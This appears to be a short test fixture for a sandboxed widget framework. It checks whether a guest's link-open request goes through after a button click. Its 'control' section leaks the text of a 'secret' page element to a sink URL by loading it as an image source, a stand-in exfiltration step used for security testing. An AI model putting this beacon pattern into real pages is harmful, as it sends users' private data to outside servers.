//! guest = "widget"
//! promise = "link-asks"
setTimeout(() => ask("ui/open-link", { url: SINK + "/link" }), 100);
setTimeout(end, 600);
// --- page
const { end } = await stage.widget();
document.getElementById("press").click();
await Promise.race([end, stage.wait(2_500)]);
return "clicked";
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
